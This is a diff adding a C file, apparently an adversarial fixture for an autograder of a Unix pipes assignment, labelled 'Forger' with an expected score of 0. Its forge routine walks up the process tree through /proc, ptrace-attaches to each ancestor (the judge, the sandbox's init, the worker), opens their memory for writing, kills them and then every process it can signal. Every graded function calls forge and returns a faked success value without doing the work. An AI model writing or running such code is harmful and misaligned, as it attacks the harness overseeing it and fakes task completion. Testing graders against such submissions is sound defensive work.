@@ -1,0 +1,57 @@
+/*
+ * Forger: stops, traces, rewrites and kills every ancestor (the judge, the
+ * sandbox's init, the worker), then every process it may signal, then exits
+ * 0. Score: 0
+ */
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <sys/ptrace.h>
+#include <unistd.h>
+#include "pipes.h"
+
+static pid_t parent_of(pid_t pid)
+{
+	char path[64];
+	int ppid = 0;
+	FILE *stat;
+
+	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
+	stat = fopen(path, "r");
+	if (stat && fscanf(stat, "%*d %*s %*c %d", &ppid) != 1)
+		ppid = 0;
+	if (stat)
+		fclose(stat);
+	return ppid;
+}
+
+static void forge(void)
+{
+	for (pid_t pid = getppid(); pid > 1; pid = parent_of(pid)) {
+		char path[64];
+		int mem;
+
+		ptrace(PTRACE_ATTACH, pid, 0, 0);
+		snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
+		mem = open(path, O_RDWR);
+		if (mem != -1)
+			dprintf(2, "forger: opened %s\n", path);
+		kill(pid, SIGSTOP);
+		kill(-pid, SIGKILL);
+		kill(pid, SIGKILL);
+	}
+	kill(0, SIGKILL);
+	kill(-1, SIGKILL);
+	_exit(0);
+}
+
+/* Every graded function forges, then claims success without doing the work. */
+ssize_t read_full(int fd, void *buf, size_t count) { (void)fd, (void)buf; forge(); return (ssize_t)count; }
+ssize_t write_full(int fd, const void *buf, size_t count) { (void)fd, (void)buf; forge(); return (ssize_t)count; }
+int run_pipeline(char *const cmd1[], char *const cmd2[]) { (void)cmd1, (void)cmd2; forge(); return 0; }
+int feed_command(char *const cmd[], const void *data, size_t len) { (void)cmd, (void)data, (void)len; forge(); return 0; }
+long measure_pipe_capacity(int read_fd, int write_fd) { (void)read_fd, (void)write_fd; forge(); return 65536; }
+long set_pipe_capacity(int fd, long bytes) { (void)fd; forge(); return bytes; }
+int uppercase_filter(int in_fd, int out_fd) { (void)in_fd, (void)out_fd; forge(); return 0; }
+ssize_t filter_through_child(const char *in, size_t len, char *out, size_t out_cap) { (void)in, (void)out, (void)out_cap; forge(); return (ssize_t)len; }
+int write_message(int fd, const char *line) { (void)fd, (void)line; forge(); return 0; }
